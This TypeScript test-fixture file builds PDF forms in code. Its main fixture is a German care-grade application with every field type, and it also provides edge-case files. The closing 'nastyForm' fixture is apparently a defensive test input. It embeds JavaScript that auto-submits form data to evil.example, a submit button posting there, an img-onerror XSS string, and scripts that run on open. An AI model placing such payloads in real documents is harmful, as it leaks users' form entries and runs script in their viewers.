/** Forms for tests, made in code: an application with a field of every kind, and some that nobody should fill in. */

import { deflateSync } from 'node:zlib';

/** A whole PDF of numbered objects, the first of which is the catalog. `trailer` adds entries to the trailer. */
export function pdfOfObjects(objects: readonly string[], trailer = ''): Uint8Array<ArrayBuffer> {
  let file = '%PDF-1.7\n';
  const begins = objects.map((object, at) => {
    const begin = file.length;
    file += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(begin).padStart(10, '0')} 00000 n \n`;
  });
  const table = file.length;
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${begins.join('')}`;
  file += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${table}\n%%EOF\n`;
  return new Uint8Array(Buffer.from(file, 'latin1'));
}

const stream = (content: string, dict = ''): string =>
  `<< ${dict} /Length ${content.length} >>\nstream\n${content}\nendstream`;

interface Place {
  page: number;
  /** Left, bottom, right, top in points. */
  rect: [number, number, number, number];
}

type Box = Place & { name: string; entries: string };

/** A drawn mark for boxes and circles, and none. */
const mark = '/AP << /N << /State 4 0 R /Off 5 0 R >> >>';
const markOf = (state: string): string => mark.replace('State', state);

/** The fields of the application; radio buttons hang under a parent of their own. */
const fields: Box[] = [
  { page: 0, rect: [60, 720, 400, 740], name: 'name', entries: '/FT /Tx /Ff 2 /TU (Vor- und Nachname)' },
  { page: 0, rect: [60, 640, 400, 700], name: 'reason', entries: '/FT /Tx /Ff 4096 /TU (Begr\xfcndung)' },
  {
    page: 0,
    rect: [60, 600, 260, 620],
    name: 'number',
    entries: '/FT /Tx /Ff 16777216 /MaxLen 10 /TU (Versichertennummer)',
  },
  { page: 0, rect: [60, 570, 76, 586], name: 'agree', entries: `/FT /Btn /TU (Einverstanden) ${markOf('Ja')}` },
  {
    page: 0,
    rect: [60, 500, 260, 520],
    name: 'grade',
    entries:
      '/FT /Ch /Ff 131072 /Opt [[(1) (Pflegegrad 1)] [(2) (Pflegegrad 2)] [(3) (Pflegegrad 3)]] /TU (Pflegegrad)',
  },
  {
    page: 0,
    rect: [60, 420, 260, 480],
    name: 'helps',
    entries: '/FT /Ch /Ff 2097152 /Opt [(Bad) (Bett) (K\xfcche)] /TU (Hilfe bei)',
  },
  { page: 1, rect: [60, 740, 260, 760], name: 'file', entries: '/FT /Tx /Ff 1 /V (AZ 4711) /TU (Aktenzeichen)' },
  { page: 1, rect: [60, 600, 300, 660], name: 'signature', entries: '/FT /Sig /TU (Unterschrift)' },
];
const radios: Place[] = [
  { page: 0, rect: [60, 540, 76, 556] },
  { page: 0, rect: [160, 540, 176, 556] },
];

/** Two pages with every kind of field. Object numbers: 1 to 9 are fixed, the fields follow. */
export function applicationForm(): Uint8Array<ArrayBuffer> {
  const first = 10;
  const radioParent = first + fields.length;
  const widgets = fields.map(
    ({ page, rect, name, entries }) =>
      `<< /Type /Annot /Subtype /Widget /F 4 /P ${6 + page} 0 R /Rect [${rect.join(' ')}] /T (${name}) /DA (/Helv 11 Tf 0 g) ${entries} >>`,
  );
  const kids = radios.map(
    ({ page, rect }, at) =>
      `<< /Type /Annot /Subtype /Widget /F 4 /P ${6 + page} 0 R /Rect [${rect.join(' ')}] /Parent ${radioParent} 0 R /AS /Off ${markOf(at === 0 ? 'allein' : 'paar')} >>`,
  );
  const all = [...fields, ...radios];
  const numberOf = (at: number) => (at < fields.length ? first + at : radioParent + 1 + at - fields.length);
  const annots = (page: number) =>
    all.flatMap((place, at) => (place.page === page ? [`${numberOf(at)} 0 R`] : [])).join(' ');
  const refs = [...fields.map((_, at) => `${first + at} 0 R`), `${radioParent} 0 R`].join(' ');
  const page = (at: number) =>
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${8 + at} 0 R /Annots [${annots(at)}] /Resources << /Font << /Helv 3 0 R >> >> >>`;
  return pdfOfObjects([
    `<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [${refs}] /DA (/Helv 11 Tf 0 g) /DR << /Font << /Helv 3 0 R >> >> >> >>`,
    '<< /Type /Pages /Count 2 /Kids [6 0 R 7 0 R] >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    stream('q 2 w 2 2 m 14 14 l 2 14 m 14 2 l S Q', '/Type /XObject /Subtype /Form /BBox [0 0 16 16]'),
    stream('', '/Type /XObject /Subtype /Form /BBox [0 0 16 16]'),
    page(0),
    page(1),
    stream(
      'BT /Helv 16 Tf 60 780 Td (Antrag auf Pflegegrad) Tj ET BT /Helv 11 Tf 84 574 Td (Ich bin einverstanden.) Tj ET BT /Helv 11 Tf 84 544 Td (Ich lebe allein.) Tj ET BT /Helv 11 Tf 184 544 Td (Wir leben zu zweit.) Tj ET',
    ),
    stream('BT /Helv 11 Tf 60 580 Td (Unterschrift) Tj ET 0.5 w 60 598 m 300 598 l S'),
    ...widgets,
    `<< /FT /Btn /Ff 49152 /T (living) /TU (Wie leben Sie?) /Kids [${radios.map((_, at) => `${radioParent + 1 + at} 0 R`).join(' ')}] >>`,
    ...kids,
  ]);
}

const blank = '<< /Type /Pages /Count 1 /Kids [3 0 R] >>';

/** A page with words and no fields. */
export const withoutFields = (): Uint8Array<ArrayBuffer> =>
  pdfOfObjects(['<< /Type /Catalog /Pages 2 0 R >>', blank, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>']);

/** What some programs call a form: XML inside a PDF whose only page says "please wait". */
export const onlyXfa = (): Uint8Array<ArrayBuffer> =>
  pdfOfObjects([
    '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>',
    blank,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template></template></xdp:xdp>'),
  ]);

/** Says that it wants a password. */
export const withPassword = (): Uint8Array<ArrayBuffer> =>
  pdfOfObjects(
    ['<< /Type /Catalog /Pages 2 0 R >>', blank, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>'],
    `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'11'.repeat(32)}> /U <${'22'.repeat(32)}> >>`,
  );

/** More pages than anybody fills in during a conversation. */
export const ofPages = (count: number): Uint8Array<ArrayBuffer> =>
  pdfOfObjects([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Count ${count} /Kids [${'3 0 R '.repeat(count)}] >>`,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
  ]);

/** A page with so many fields for text, all in one place. */
export const withFields = (count: number): Uint8Array<ArrayBuffer> =>
  formOf(Array.from({ length: count }, (_, at) => `/FT /Tx /T (f${at}) /TU (f${at})`));

/** A page with one picture, gray and all the same: almost nothing when it is packed. */
export function withPicture(width: number, height: number): Uint8Array<ArrayBuffer> {
  const packed = deflateSync(Buffer.alloc(Math.ceil(width / 8) * height), { level: 9 });
  const picture = packed.toString('latin1');
  const dict = `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /FlateDecode`;
  return pdfOfObjects([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /XObject << /P 5 0 R >> >> >>',
    stream('q 100 0 0 100 0 0 cm /P Do Q'),
    stream(picture, dict),
  ]);
}

/** One page, turned clockwise by `rotation`, with fields whose entries are given; each is 100 by 20 points, one above the other. */
export function formOf(
  entries: readonly string[],
  { rotation = 0, content = '', catalog = '' } = {},
): Uint8Array<ArrayBuffer> {
  const refs = entries.map((_, at) => `${6 + at} 0 R`).join(' ');
  return pdfOfObjects([
    `<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [${refs}] /DA (/Helv 11 Tf 0 g) /DR << /Font << /Helv 4 0 R >> >> >> ${catalog} >>`,
    blank,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 600] /Rotate ${rotation} /Contents 5 0 R /Annots [${refs}] /Resources << /Font << /Helv 4 0 R >> >> >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    stream(content),
    ...entries.map(
      (entry, at) =>
        `<< /Type /Annot /Subtype /Widget /F 4 /P 3 0 R /Rect [100 ${500 - at * 60} 200 ${520 - at * 60}] /DA (/Helv 11 Tf 0 g) ${entry} >>`,
    ),
  ]);
}

/** A form that would rather be a program: scripts on opening, on every letter and on a button, a link out, odd names and sizes. */
export const nastyForm = (): Uint8Array<ArrayBuffer> =>
  formOf(
    [
      '/FT /Tx /T (total) /AA << /K << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\)) >> >>',
      '/FT /Btn /Ff 65536 /T (send) /A << /S /SubmitForm /F (https://evil.example/) >>',
      '/FT /Tx /T (secret) /Ff 8192 /TU (Kennwort)',
      '/FT /Tx /T (hidden) /F 2',
      `/FT /Tx /T (${'n'.repeat(5_000)})`,
      '/FT /Tx /T (long) /MaxLen 999999999 /TU (\\000\\001<img src=x onerror=alert\\(1\\)>)',
      '/FT /Ch /T (choice) /Ff 131072 /Opt [(a) (a) 7 null [(only)] (\\033odd)]',
      '/FT /Zz /T (unknown)',
    ],
    {
      catalog:
        '/OpenAction << /S /JavaScript /JS (globalThis.ran = true;) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (globalThis.ran = true;) >>] >> >>',
    },
  );
